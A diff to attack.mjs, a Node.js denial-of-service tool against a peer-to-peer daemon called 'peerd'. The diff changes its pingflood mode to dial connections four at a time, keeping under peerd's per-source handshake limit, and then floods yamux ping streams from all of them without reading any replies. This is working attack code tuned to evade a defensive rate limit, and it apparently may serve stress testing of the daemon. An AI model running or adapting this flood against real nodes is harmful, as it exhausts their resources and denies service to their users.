@@ -6,10 +6,11 @@
 //   node attack.mjs pingflood HOST PORT PEERID CONNS STREAMS BYTES SECONDS
 //   node attack.mjs connectflood HOST PORT PEERID LANES SECONDS
 //
-// pingflood     CONNS connections at once; on each, STREAMS ping streams
-//               with BYTES sent on each (within the 256 KiB yamux window),
-//               and never a byte read: no echo, no window update, no
-//               yamux ping answered.  Writes wait for the socket, so the
+// pingflood     CONNS connections, dialled 4 at a time (peerd takes at
+//               most 8 handshakes from one source), then on each at once
+//               STREAMS ping streams with BYTES sent on each (within the
+//               256 KiB yamux window), and never a byte read: no echo, no
+//               window update, no yamux ping answered.  Writes wait for the socket, so the
 //               attacker holds what the kernel will not take.  After
 //               SECONDS every connection is dropped.
 // connectflood  one connection; LANES hop streams at a time, each a
@@ -77,14 +78,7 @@ function put(sock, data, end) {
   });
 }
 
-async function floodOne(host, port, peer, streams, bytes, end, stats) {
-  let c;
-  try {
-    c = await secure(host, port, peer);
-  } catch (e) {
-    stats.failed++;
-    return;
-  }
+async function floodOne(c, streams, bytes, end, stats) {
   const { sock, chan } = c;
   let closed = false;
   sock.on('close', () => { closed = true; });
@@ -121,10 +115,22 @@ async function pingflood(host, port, peer, conns, streams, bytes, seconds) {
   const end = Date.now() + seconds * 1000;
   const stats = { connected: 0, failed: 0, streams: 0, sent: 0,
     closedByPeer: 0 };
-  const all = [];
-  for (let i = 0; i < conns; i++)
-    all.push(floodOne(host, port, peer, streams, bytes, end, stats));
-  await Promise.all(all);
+  // connected a few at a time, as peerd takes at most 8 handshakes from
+  // one source at once; then all flood together
+  const ready = [];
+  for (let i = 0; i < conns; i += 4) {
+    const batch = [];
+    for (let k = i; k < Math.min(conns, i + 4); k++)
+      batch.push(secure(host, port, peer).catch(() => null));
+    for (const c of await Promise.all(batch)) {
+      if (c === null)
+        stats.failed++;
+      else
+        ready.push(c);
+    }
+  }
+  await Promise.all(ready.map(c => floodOne(c, streams, bytes, end,
+    stats)));
   emit({ event: 'done', mode: 'pingflood', ...stats });
   return stats.connected > 0 ? 0 : 1;
 }
